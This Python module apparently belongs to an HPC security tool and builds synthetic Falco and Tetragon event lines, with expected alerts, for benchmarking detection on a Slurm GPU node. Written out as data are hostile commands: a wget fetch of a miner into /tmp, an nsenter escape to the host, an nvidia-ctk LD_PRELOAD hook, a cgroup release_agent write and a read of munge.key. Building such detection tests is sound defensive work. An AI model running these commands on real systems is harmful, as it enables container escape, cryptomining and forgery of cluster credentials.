"""The twin attacks (and behaves): scenarios of real Falco/Tetragon lines with ground truth.

Each :class:`Scenario` is what the sensors of one node would write during one attack or one
benign activity, the ``/proc/<pid>/cgroup`` of its processes, the jobs it runs in (user,
account), and the alerts it must raise: ``expected`` maps a rule id to the number of distinct
(deduplicated) alerts, and ``severities`` the severity one of them must reach. Benign scenarios
expect nothing. ``bench/detection_quality.py`` replays them through the production pipeline;
``hpcscope twin attack`` writes one into the files a server tails.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field, replace

from hpcscope.twin.security_events import (
    Proc,
    ProcTree,
    falco_line,
    file_access,
    slurm_cgroup,
    tcp_connect,
    tetragon_exec,
    tetragon_kprobe,
)

SECOND_NS = 1_000_000_000
NODE = "gpu01"
#: The twin's jobs in these scenarios: job id -> (user, account).
JOBS: dict[str, tuple[str, str]] = {
    "4410001": ("alice", "vision"),
    "4410002": ("bob", "nlp"),
    "4410006": ("alice", "vision"),
}
CHECKPOINTS = "/lustre/checkpoints"


@dataclass
class Scenario:
    """One replayable scenario: the lines, the process tree and the ground truth."""

    name: str
    benign: bool
    falco: list[str] = field(default_factory=list)
    tetragon: list[str] = field(default_factory=list)
    proc: ProcTree = field(default_factory=ProcTree)
    expected: dict[str, int] = field(default_factory=dict)
    severities: dict[str, str] = field(default_factory=dict)
    node: str = NODE
    job_id: str | None = "4410001"
    # telemetry scenarios (twin/attacks_telemetry.py): what the collectors read, as they read it
    pages: list[tuple[int, str, str, str]] = field(default_factory=list)
    """Scrapes ``(ts_ns, exporter, node, page)``: ``infiniband`` (node_exporter), ``dcgm``, ``node``
    (node_exporter serving the posture textfile)."""
    job_stats: list[tuple[str, str]] = field(default_factory=list)
    """``(server, lctl get_param *.job_stats output)`` snapshots, in time order."""
    changelog: list[tuple[str, str]] = field(default_factory=list)
    """``(mdt, lfs changelog output)``."""
    fids: dict[str, str] = field(default_factory=dict)
    """FID -> path (what ``lfs fid2path`` answers)."""
    compute_apps: list[tuple[str, str]] = field(default_factory=list)
    """``(node, nvidia-smi --query-compute-apps --format=csv output)``; PIDs' jobs in ``proc``."""
    slurm_jobs: list[dict[str, object]] = field(default_factory=list)
    """Slurm's records of the scenario's jobs (``jobs`` columns: nodes, times, partition)."""
    allocations: list[dict[str, object]] = field(default_factory=list)
    """The job mapping's GPU allocations (``job_allocations`` columns)."""
    rule_lists: dict[str, dict[str, list[str]]] = field(default_factory=dict)
    """The site's rule-file lists for this scenario (rule id -> list name -> items)."""
    gpu: int | None = None
    """The GPU the scenario's alerts must name (None: a syscall or node-level scenario)."""
    evaluate_at_ns: int | None = None
    """When the rules run (ns since the epoch); None for event scenarios."""
    onset_ns: int | None = None
    """When the attack starts (ns since the epoch): the bench measures detection delays from it."""
    training_events: list[tuple[str, int, str]] = field(default_factory=list)
    """``(job directory, rank, lines)`` the training recorder wrote to the integrity spool
    (``training-<rank>.jsonl``; twin/attacks_training.py)."""


def _python(s: Scenario, t0: int, job: str = "4410001", pid: int = 2000) -> Proc:
    uid = 1000 if JOBS[job][0] == "alice" else 1001
    return s.proc.add(Proc(NODE, pid, uid, "/usr/bin/python3", "train.py", t0), job)


def miner_falco_line(*, job_id: str, node: str, user: str, time_ns: int) -> str:
    """hpcscope's SC-2 Falco alert for ultralytics' miner dropped in /tmp and run in a job."""
    exe = "/tmp/ultralytics_runner"
    fields = {
        "proc.exepath": exe,
        "proc.name": "ultralytics_run",
        "proc.cmdline": "ultralytics_run -o pool.example.net:3333",
        "proc.pname": "python3",
        "proc.pid": 31337,
        "user.name": user,
        "user.uid": 1000,
        "thread.cgroups": f"cpu={slurm_cgroup(job_id)[3:]}",
    }
    return falco_line(
        rule="hpcscope Executable run from a temp directory in a Slurm job",
        priority="Error",
        time_ns=time_ns,
        hostname=node,
        fields=fields,
        tags=["hpcscope", "SC-2", "mitre_execution", "T1204.002", "T1105"],
        text=f"Exec from a temp directory in a Slurm job (exe={exe} proc=ultralytics_run "
        f"user={user} job_cgroups={slurm_cgroup(job_id)[3:]})",
    )


def supply_chain_miner(t0: int) -> Scenario:
    """python -> sh -c wget of a binary into /tmp, run it, it connects to a pool port."""
    s = Scenario("supply-chain-miner", benign=False)
    python = _python(s, t0)
    shell = s.proc.add(
        Proc(NODE, 2001, 1000, "/bin/sh", "-c wget -q http://x/m -O /tmp/ultralytics_runner",
             t0 + SECOND_NS, python),
        "4410001",
    )  # fmt: skip
    wget = s.proc.add(
        Proc(NODE, 2002, 1000, "/usr/bin/wget", "-q http://x/m", t0 + 2 * SECOND_NS, shell),
        "4410001",
    )
    miner = s.proc.add(
        Proc(NODE, 2003, 1000, "/tmp/ultralytics_runner", "", t0 + 5 * SECOND_NS, shell),
        "4410001",
    )
    s.tetragon = [tetragon_exec(p) for p in (python, shell, wget, miner)]
    s.tetragon.append(tcp_connect(miner, "45.9.148.3", 3333, time_ns=t0 + 9 * SECOND_NS))
    s.expected = {"SC-1": 2, "SC-2": 1, "SC-3": 1}
    s.severities = {"SC-2": "CRITICAL", "SC-3": "CRITICAL"}
    return s


def falco_miner(t0: int) -> Scenario:
    """The same miner seen by Falco's hpcscope SC-2 rule."""
    s = Scenario("falco-miner", benign=False)
    s.falco = [miner_falco_line(job_id="4410001", node=NODE, user="alice", time_ns=t0)]
    s.expected = {"SC-2": 1}
    return s


def renamed_miner_in_shm(t0: int) -> Scenario:
    """A miner renamed to look like a worker, run from /dev/shm: the path rule catches it."""
    s = Scenario("renamed-miner-dev-shm", benign=False)
    python = _python(s, t0)
    worker = s.proc.add(
        Proc(NODE, 2101, 1000, "/dev/shm/pt_data_worker", "", t0 + SECOND_NS, python), "4410001"
    )
    s.tetragon = [tetragon_exec(python), tetragon_exec(worker)]
    s.expected = {"SC-2": 1}
    return s


def foreign_checkpoint_read(t0: int) -> Scenario:
    """alice's job writes a checkpoint; bob's job (another account) reads it: W-1."""
    s = Scenario("foreign-checkpoint-read", benign=False, job_id="4410002")
    writer = _python(s, t0)
    reader = _python(s, t0, job="4410002", pid=2201)
    shard = f"{CHECKPOINTS}/run-a/step-100/model.pt"
    s.tetragon = [
        tetragon_exec(writer),
        tetragon_exec(reader),
        file_access(writer, shard, 2, time_ns=t0 + SECOND_NS),
        file_access(reader, shard, 4, time_ns=t0 + 60 * SECOND_NS),
        file_access(reader, shard, 4, time_ns=t0 + 61 * SECOND_NS),
    ]
    s.expected = {"W-1": 1}
    return s


def checkpoint_overwrite(t0: int) -> Scenario:
    """Another job rewrites a checkpoint it did not create (a backdoor implant): W-3."""
    s = Scenario("checkpoint-backdoor", benign=False, job_id="4410002")
    writer = _python(s, t0)
    other = _python(s, t0, job="4410002", pid=2301)
    shard = f"{CHECKPOINTS}/run-b/step-5/model.safetensors"
    s.tetragon = [
        tetragon_exec(writer),
        tetragon_exec(other),
        file_access(writer, shard, 2, time_ns=t0 + SECOND_NS),
        file_access(other, shard, 2, time_ns=t0 + 30 * SECOND_NS),
    ]
    s.expected = {"W-3": 1}
    return s


def nsenter_escape(t0: int) -> Scenario:
    """A job process runs ``nsenter --target 1 --mount --pid``: CE-3."""
    s = Scenario("nsenter-host-namespaces", benign=False)
    python = _python(s, t0)
    nsenter = s.proc.add(
        Proc(NODE, 2401, 1000, "/usr/bin/nsenter", "--target 1 --mount --pid /bin/sh",
             t0 + SECOND_NS, python),
        "4410001",
    )  # fmt: skip
    s.tetragon = [tetragon_exec(python), tetragon_exec(nsenter)]
    s.expected = {"CE-3": 1}
    return s


def nvidiascape(t0: int) -> Scenario:
    """``nvidia-ctk`` run with ``LD_PRELOAD`` from a job (NVIDIAScape): CE-2."""
    s = Scenario("nvidia-ctk-ld-preload", benign=False)
    python = _python(s, t0)
    ctk = s.proc.add(
        Proc(NODE, 2501, 0, "/usr/bin/nvidia-ctk", "hook LD_PRELOAD=/proc/self/cwd/poc.so",
             t0 + SECOND_NS, python),
        "4410001",
    )  # fmt: skip
    s.tetragon = [tetragon_exec(python), tetragon_exec(ctk)]
    s.expected = {"CE-2": 1}
    return s


def release_agent(t0: int) -> Scenario:
    """A job writes a cgroup ``release_agent`` (Tetragon) and Falco's stable rule fires."""
    s = Scenario("release-agent-escape", benign=False)
    shell = s.proc.add(Proc(NODE, 2601, 0, "/bin/sh", "-c echo /x > ra", t0), "4410001")
    s.tetragon = [
        tetragon_exec(shell),
        file_access(shell, "/sys/fs/cgroup/rdma/release_agent", 2, time_ns=t0 + SECOND_NS),
    ]
    s.falco = [
        falco_line(
            rule="Detect release_agent File Container Escapes",
            priority="Critical",
            time_ns=t0 + SECOND_NS,
            hostname=NODE,
            fields={"proc.name": "sh", "fd.name": "/sys/fs/cgroup/rdma/release_agent",
                    "user.uid": 0, "thread.cgroups": f"cpu={slurm_cgroup('4410001')[3:]}"},
            tags=["container", "mitre_privilege_escalation", "T1611"],
            text="Detect an attempt to exploit a container escape using release_agent file",
        )
    ]  # fmt: skip
    s.expected = {"CE-1": 2}  # Tetragon's subject is the path, Falco's the process
    return s


def munge_key_read(t0: int) -> Scenario:
    """A job reads ``/etc/munge/munge.key`` (forges any Slurm credential): CE-4."""
    s = Scenario("munge-key-read", benign=False)
    cat = s.proc.add(Proc(NODE, 2701, 1000, "/usr/bin/cat", "/etc/munge/munge.key", t0), "4410001")
    s.tetragon = [tetragon_exec(cat), file_access(cat, "/etc/munge/munge.key", 4, time_ns=t0)]
    s.expected = {"CE-4": 1}
    return s


def root_ptrace(t0: int) -> Scenario:
    """A root process outside every job attaches to the trainer: GM-3."""
    s = Scenario("root-ptrace-trainer", benign=False)
    trainer = _python(s, t0)
    gdb = s.proc.add(Proc(NODE, 2801, 0, "/usr/bin/gdb", "-p 2000", t0 + SECOND_NS), None)
    s.tetragon = [
        tetragon_exec(trainer),
        tetragon_exec(gdb),
        tetragon_kprobe(gdb, time_ns=t0 + 2 * SECOND_NS, function="__x64_sys_ptrace",
                        args=[{"int_arg": 16}, {"int_arg": 2000}], policy="ptrace"),
    ]  # fmt: skip
    s.expected = {"GM-3": 1}
    s.job_id = None
    return s


def uverbs_outside_jobs(t0: int) -> Scenario:
    """A process outside every job opens ``/dev/infiniband/uverbs0``: RD-4."""
    s = Scenario("uverbs-outside-jobs", benign=False, job_id=None)
    tool = s.proc.add(Proc(NODE, 2901, 0, "/usr/local/bin/rdma_dump", "", t0), None)
    s.tetragon = [
        tetragon_exec(tool),
        file_access(tool, "/dev/infiniband/uverbs0", 6, time_ns=t0 + SECOND_NS),
    ]
    s.expected = {"RD-4": 1}
    return s


def benign_checkpoints(t0: int) -> Scenario:
    """Training that writes and reloads its own checkpoints; an eval job of the same account
    reads them (multi-hour training with checkpoints, same-account eval reads)."""
    s = Scenario("benign-checkpoints", benign=True)
    python = _python(s, t0)
    evaluator = _python(s, t0, job="4410006", pid=3001)  # alice again, same account
    shard = f"{CHECKPOINTS}/run-c/step-200/model.pt"
    s.tetragon = [tetragon_exec(python), tetragon_exec(evaluator)]
    for step in range(3):
        s.tetragon.append(file_access(python, shard, 2, time_ns=t0 + (10 + step) * SECOND_NS))
    s.tetragon += [
        file_access(python, shard, 4, time_ns=t0 + 20 * SECOND_NS),
        file_access(evaluator, shard, 4, time_ns=t0 + 30 * SECOND_NS),
    ]
    return s


def benign_jit(t0: int) -> Scenario:
    """torch.compile's JIT: ``sh -c gcc ...``, gcc, ptxas; pip's build isolation in /tmp."""
    s = Scenario("benign-torch-compile-jit", benign=True)
    python = _python(s, t0)
    jit_sh = s.proc.add(Proc(NODE, 3002, 1000, "/bin/sh", "-c gcc -O3 -shared k.c", t0, python),
                        "4410001")  # fmt: skip
    gcc = s.proc.add(Proc(NODE, 3003, 1000, "/usr/bin/gcc", "-O3 -shared k.c", t0, jit_sh),
                     "4410001")  # fmt: skip
    ptxas = s.proc.add(Proc(NODE, 3004, 1000, "/usr/local/cuda/bin/ptxas", "k.ptx", t0, python),
                       "4410001")  # fmt: skip
    pip = s.proc.add(Proc(NODE, 3007, 1000, "/tmp/pip-build-env-x1/overlay/bin/cmake", "..", t0,
                          python), "4410001")  # fmt: skip
    s.tetragon = [tetragon_exec(p) for p in (python, jit_sh, gcc, ptxas, pip)]
    return s


def benign_nccl(t0: int) -> Scenario:
    """nccl-tests in an allocation: rendezvous inside the cluster, the job's own uverbs opens."""
    s = Scenario("benign-nccl-tests", benign=True)
    tests = s.proc.add(Proc(NODE, 3101, 1000, "/opt/nccl-tests/all_reduce_perf", "-b 8 -e 8G",
                            t0), "4410001")  # fmt: skip
    s.tetragon = [
        tetragon_exec(tests),
        tcp_connect(tests, "10.1.0.12", 29500, time_ns=t0 + 3 * SECOND_NS),
        file_access(tests, "/dev/infiniband/uverbs0", 6, time_ns=t0 + 4 * SECOND_NS),
        file_access(tests, "/dev/infiniband/uverbs1", 6, time_ns=t0 + 4 * SECOND_NS),
    ]
    return s


def benign_starts_and_profiling(t0: int) -> Scenario:
    """enroot and Apptainer container starts (setns in the job), and py-spy by the job owner
    (Tetragon's ptrace kprobe and Falco's stable ptrace rule)."""
    s = Scenario("benign-containers-py-spy", benign=True)
    python = _python(s, t0)
    pyspy = s.proc.add(Proc(NODE, 3005, 1000, "/usr/bin/py-spy", "dump --pid 2000", t0),
                       "4410001")  # fmt: skip
    enroot = s.proc.add(Proc(NODE, 3006, 0, "/usr/bin/enroot-nsenter", "", t0), "4410001")
    starter = s.proc.add(
        Proc(NODE, 3008, 1000, "/usr/libexec/apptainer/bin/starter-suid", "", t0), "4410001"
    )
    s.tetragon = [tetragon_exec(p) for p in (python, pyspy, enroot, starter)]
    s.tetragon += [
        tetragon_kprobe(pyspy, time_ns=t0 + 5 * SECOND_NS, function="__x64_sys_ptrace",
                        args=[{"int_arg": 16}, {"int_arg": 2000}], policy="ptrace"),
        tetragon_kprobe(enroot, time_ns=t0 + 6 * SECOND_NS, function="__x64_sys_setns",
                        args=[{"int_arg": 3}, {"int_arg": 0x20000}], policy="ns"),
        tetragon_kprobe(starter, time_ns=t0 + 7 * SECOND_NS, function="__x64_sys_setns",
                        args=[{"int_arg": 4}, {"int_arg": 0x20000}], policy="ns"),
    ]  # fmt: skip
    s.falco = [
        falco_line(
            rule="PTRACE attached to process",
            priority="Warning",
            time_ns=t0 + 5 * SECOND_NS,
            hostname=NODE,
            fields={"proc.name": "py-spy", "user.uid": 1000, "user.name": "alice",
                    "evt.arg.pid": 2000, "thread.cgroups": f"cpu={slurm_cgroup('4410001')[3:]}"},
            tags=["host", "container", "mitre_privilege_escalation", "T1055.008"],
            text="Detected ptrace PTRACE_ATTACH attempt (proc=py-spy user=alice)",
        )
    ]  # fmt: skip
    return s


SCENARIOS: tuple[Callable[[int], Scenario], ...] = (
    supply_chain_miner,
    falco_miner,
    renamed_miner_in_shm,
    foreign_checkpoint_read,
    checkpoint_overwrite,
    nsenter_escape,
    nvidiascape,
    release_agent,
    munge_key_read,
    root_ptrace,
    uverbs_outside_jobs,
    benign_checkpoints,
    benign_jit,
    benign_nccl,
    benign_starts_and_profiling,
)


def retarget(s: Scenario, *, job_id: str | None, node: str | None) -> Scenario:
    """The scenario played in another job and node: Falco's ``thread.cgroups`` names
    ``job_id`` instead of the scenario's main job, ``hostname``/``node_name`` become ``node``.
    (Tetragon lines still need the server's ``/proc/<pid>/cgroup`` to name a job.)"""
    if job_id is None and node is None:
        return s
    main = s.job_id or "4410001"

    def falco(line: str) -> str:
        alert = json.loads(line)
        if node is not None:
            alert["hostname"] = node
        fields = alert.get("output_fields") or {}
        if job_id is not None:
            for holder, key in ((fields, "thread.cgroups"), (alert, "output")):
                if isinstance(holder.get(key), str):
                    holder[key] = holder[key].replace(f"job_{main}/", f"job_{job_id}/")
        return json.dumps(alert, separators=(",", ":"))

    def tetragon(line: str) -> str:
        event = json.loads(line)
        if node is not None:
            event["node_name"] = node
        return json.dumps(event, separators=(",", ":"))

    return replace(
        s,
        falco=[falco(x) for x in s.falco],
        tetragon=[tetragon(x) for x in s.tetragon],
        node=node or s.node,
        job_id=job_id if job_id is not None and s.job_id is not None else s.job_id,
    )


def scenarios(t0: int) -> list[Scenario]:
    """Every scenario, starting at ``t0`` (ns since the epoch)."""
    return [make(t0) for make in SCENARIOS]


def scenario(name: str, t0: int) -> Scenario:
    """One scenario by name.

    Raises:
        KeyError: no such scenario (the message lists them).
    """
    for found in scenarios(t0):
        if found.name == name:
            return found
    raise KeyError(f"no scenario {name!r}: one of {', '.join(s.name for s in scenarios(t0))}")
